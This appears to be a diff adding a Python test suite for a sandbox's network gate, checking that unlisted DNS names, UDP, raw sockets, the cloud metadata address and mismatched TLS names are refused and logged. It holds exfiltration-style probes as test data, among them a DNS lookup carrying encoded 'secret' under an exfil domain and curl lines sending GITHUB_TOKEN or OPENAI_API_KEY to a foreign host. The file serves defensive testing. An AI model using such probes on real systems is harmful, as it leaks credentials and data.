@@ -1,0 +1,164 @@
+#!/usr/bin/python3 -B
+"""From inside a local sandbox: DNS, UDP, ICMP, other ports, direct addresses, foreign placeholders.
+All of it is refused, and all of it is in the audit. And what should work: loopback, ssh remotes."""
+import json
+import os
+import socket
+import sys
+import time
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from harness import durward, scene, tap  # noqa: E402
+
+NXDOMAIN, NOERROR = 3, 0
+
+
+def net(box, *steps):
+    status, out, err = box.sh("/usr/bin/python3 %s/net.py -" % durward.INSIDE,
+                              stdin=json.dumps(steps))
+    if status != 0:
+        raise RuntimeError("net.py: %s %s" % (out, err))
+    return json.loads(out)
+
+
+def names(t, s, box):
+    got = net(box, {"do": "dns", "name": "api.github.com"},
+              {"do": "dns", "name": "API.github.COM"},
+              {"do": "dns", "name": "api.github.com", "type": 28},
+              {"do": "dns", "name": "evil.example.org"},
+              {"do": "dns", "name": "c2VjcmV0.exfil.example.org", "type": 28},
+              {"do": "dns", "name": "api.github.com", "type": 65},
+              {"do": "dns", "name": "api.github.com", "type": 16},
+              {"do": "dns", "name": "api.github.com", "server": "8.8.8.8"},
+              {"do": "dns", "name": "api.github.com", "server": "2001:4860:4860::8888"},
+              {"do": "dns", "name": "tcp.example.org", "tcp": True},
+              {"do": "dns", "name": "sub.api.github.com"})
+    a = got[0].get("answers") or [""]
+    t.ok(got[0].get("rcode") == 0 and a[0].startswith(("198.18.", "198.19.")),
+         "an allowed name gets a synthetic address", str(got[0]))
+    t.eq(got[1].get("answers"), got[0].get("answers"), "the same in another case")
+    t.ok(got[2].get("rcode") == 0 and all(x.startswith("fd") for x in got[2]["answers"]),
+         "AAAA is of our own range or none", str(got[2]))
+    t.eq(got[3].get("rcode"), NXDOMAIN, "another name is NXDOMAIN")
+    t.eq(got[4].get("rcode"), NXDOMAIN, "as AAAA too")
+    for i, kind in ((5, "HTTPS"), (6, "TXT")):
+        t.eq((got[i].get("rcode"), got[i].get("answers")), (NOERROR, []), kind + " has no data")
+    t.eq(got[7].get("answers"), got[0].get("answers"), "whatever server is asked")
+    t.eq(got[8].get("answers"), got[0].get("answers"), "over IPv6 too")
+    t.eq(got[9].get("rcode"), NXDOMAIN, "over TCP too")
+    t.eq(got[10].get("rcode"), NXDOMAIN, "a name under an allowed one is not allowed")
+
+
+def packets(t, s, box):
+    open_port = socket.create_server(("127.0.0.1", 0))
+    t.cleanup(open_port.close)
+    host_port = open_port.getsockname()[1]
+    got = net(box, {"do": "udp", "host": "8.8.4.4", "port": 443},
+              {"do": "udp", "host": "2001:db8::1", "port": 443},
+              {"do": "udp", "host": "203.0.113.7", "port": 9999},
+              {"do": "tcp", "host": "203.0.113.7", "port": 25, "send": "x", "wait": 3},
+              {"do": "tcp", "host": "169.254.169.254", "port": 80,
+               "send": "GET / HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"},
+              {"do": "tcp", "host": "127.0.0.1", "port": host_port},
+              {"do": "socket", "family": 2, "type": 3, "protocol": 1},
+              {"do": "socket", "family": 2, "type": 2, "protocol": 1},
+              {"do": "socket", "family": 17, "type": 3},
+              {"do": "socket", "family": 40, "type": 1},
+              {"do": "socket", "family": 16, "type": 3, "protocol": 12},
+              {"do": "tls", "host": "203.0.113.8", "address": "203.0.113.8", "sni": "",
+               "insecure": True, "send": "GET / HTTP/1.1\r\nHost: 203.0.113.8\r\n\r\n"},
+              {"do": "tcp", "host": "127.0.0.1", "port": 443, "send": "GET / HTTP/1.1\r\n\r\n"})
+    for i, what in enumerate(("UDP 443 (QUIC)", "UDP over IPv6", "UDP 9999")):
+        t.ok(not got[i].get("got"), what + " has no answer", str(got[i]))
+    t.ok(not got[3].get("got"), "TCP 25 says nothing", str(got[3]))
+    text = got[4].get("got", "")
+    t.ok("403" in text or not text, "the metadata address is refused", str(got[4]))
+    t.ok(not got[5].get("connected"), "the host's loopback is not there", str(got[5]))
+    for i, what in ((6, "a raw socket"), (7, "a ping socket"), (8, "a packet socket"),
+                    (9, "vsock"), (10, "another netlink family")):
+        t.ok(got[i].get("error"), what + " is refused", str(got[i]))
+    t.ok("200 OK" not in got[11].get("got", ""), "TLS to an address without a rule is refused",
+         str(got[11]))
+    t.ok(" 200 " not in got[12].get("got", ""), "loopback 443 is not a way to the gate",
+         str(got[12]))
+    status, out, _ = box.sh("python3 -m http.server -b 127.0.0.1 3000 >/dev/null 2>&1 & p=$!; "
+                            "for i in 1 2 3 4 5 6 7 8 9 10; do curl -s -o /dev/null -w "
+                            "'%{http_code}' http://127.0.0.1:3000/ && break; sleep 0.2; done; "
+                            "kill $p")
+    t.ok(out.endswith("200"), "a server on the sandbox's own loopback works", out)
+    status, out, err = box.sh("bash -c 'exec 3<>/dev/tcp/github.com/22; timeout 3 head -c 300 <&3'")
+    t.ok("SSH" in out or "https" in out.lower(), "port 22 says why it is closed", repr(out + err))
+
+
+def disguises(t, s, box):
+    """Right address, other name; other sandbox's and own placeholders in wrong places."""
+    before = len(s.github.requests), len(s.plain.requests)
+    got = net(box, {"do": "tls", "host": "deps.example.com", "address": "api.github.com",
+                    "insecure": True, "send": "GET /user HTTP/1.1\r\nHost: deps.example.com\r\n\r\n"},
+              {"do": "tls", "host": "api.github.com",
+               "send": "GET /user HTTP/1.1\r\nHost: deps.example.com\r\n\r\n"})
+    t.ok("HTTP/1.1 200" not in got[0].get("got", ""), "the address of one name with the SNI of "
+         "another is refused", str(got[0]))
+    t.has(got[1].get("got", ""), "421", "Host of another name is 421")
+    cases = (("-H \"X-Any: $GITHUB_TOKEN\" https://deps.example.com/", "secret_blocked"),
+             ("\"https://deps.example.com/?t=$GITHUB_TOKEN\"", "secret_blocked"),
+             ("-H \"Authorization: Bearer $OPENAI_API_KEY\" https://deps.example.com/",
+              "secret_blocked"),
+             ("-H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.github.com/user", None),
+             ("-H 'Authorization: Bearer ghp_0123456789012345678901234567890123ab' "
+              "https://api.github.com/user", "foreign_credential"))
+    for line, code in cases:
+        _, out, err = box.sh("curl -sS -w ' %{http_code}' " + line)
+        t.ok(out.endswith(" 403") and (code is None or code in out),
+             "a placeholder where it has no place: 403 %s" % (code or ""), line, out, err)
+    t.eq((len(s.github.requests), len(s.plain.requests)), before, "nothing of these left")
+    for auth in ('-H "Authorization: token $GITHUB_TOKEN"', '-u "x:$GITHUB_TOKEN"',
+                 '-H "authorization: bearer $GITHUB_TOKEN"', '-H "Authorization: $GITHUB_TOKEN"'):
+        _, out, err = box.sh("curl -sS -o /dev/null -w '%{http_code}' " + auth +
+                             " https://api.github.com/user")
+        t.eq(out, "200", "the own placeholder in its place: " + auth)
+
+
+def remotes(t, s, box):
+    _, out, err = box.sh("git config --get-regexp 'url.*insteadof'; "
+                         "GIT_TRACE=1 git ls-remote git@github.com:acme/repo.git 2>&1 | head -5",
+                         env={"GIT_TERMINAL_PROMPT": "0"})
+    t.ok("https://github.com/" in out, "an ssh remote becomes https", out, err)
+
+
+def logged(t, s):
+    d = s.d
+
+    def targets(kind):
+        return " ".join(str(x.get("target")) + "*" + str(x.get("count", 1)) for x in d.kinds(kind))
+    want = ("8.8.4.4:443", "2001:db8::1", "203.0.113.7:9999")
+    tap.wait_for(lambda: all(w in targets("packet") for w in want), 5)
+    for w in want:
+        t.has(targets("packet"), w, "the packet to %s is recorded" % w)
+    for w in ("evil.example.org", "exfil.example.org", "tcp.example.org"):
+        t.has(targets("dns"), w, "the name %s is recorded" % w)
+    everything = str(d.records())
+    for w in ("203.0.113.7:25", "169.254.169.254", "203.0.113.8"):
+        t.has(everything, w, "the connection to %s is recorded" % w)
+    s.judge([(s.github, s.github_credential), (s.openai, None), (s.plain, None)], (), "inside")
+
+
+def main(t):
+    s = scene.Scene(t)
+    s.rule(allow="github.com/acme/*", git="fetch",
+           **{"with": {"basic": {"user": "x-access-token", "password": "github"}}})
+    s.d.resolve["github.com"] = "127.0.0.1:9"
+    before = time.time()
+    box = durward.Sandbox(s.d)
+    t.diag("sandbox ready in %.2f s" % (time.time() - before))
+    for part in (names, packets, disguises, remotes):
+        try:
+            part(t, s, box)
+        except (RuntimeError, IndexError, KeyError) as e:
+            t.ok(False, part.__name__ + " ran to its end", repr(e))
+    status, err = box.close()
+    t.has(err, "denied", "the summary at the end tells of denials")
+    logged(t, s)
+
+
+tap.run(main)
